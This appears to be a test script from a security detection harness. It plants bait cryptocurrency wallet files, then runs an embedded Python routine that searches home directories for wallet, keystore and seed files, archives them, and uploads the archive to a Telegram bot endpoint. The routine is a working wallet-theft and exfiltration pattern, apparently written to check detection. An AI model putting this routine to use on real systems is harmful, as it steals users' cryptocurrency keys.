#!/bin/sh
. /opt/case/case.sh

mkdir -p /root/.bitcoin /root/.ethereum/keystore /root/.config/solana /root/.config/Exodus
echo bait | tee /root/.bitcoin/wallet.dat /root/.ethereum/keystore/UTC--2026 /root/.config/solana/id.json /root/.config/Exodus/seed.seco >/dev/null
python3 - <<'END'
import glob, io, json, tarfile, urllib.request
b = io.BytesIO(); t = tarfile.open(fileobj=b, mode="w:gz"); n = 0
for p in ("**/wallet.dat", "**/keystore/UTC--*", "**/solana/id.json", "**/*.seco", "**/.metamask*", "**/electrum/wallets/*", "**/*mnemonic*", "**/*.wallet"):
    for d in ("/root/", "/home/", "/srv/"):
        for f in glob.glob(d + p, recursive=True) + glob.glob(d + ".*/" + p, recursive=True): t.add(f); n += 1
t.close(); assert n >= 4
r = urllib.request.Request("http://api.telegram.org/bot0:bait/sendDocument", b.getvalue(), {"Content-Type": "application/gzip"}); assert urllib.request.urlopen(r).status == 200
END
took_place
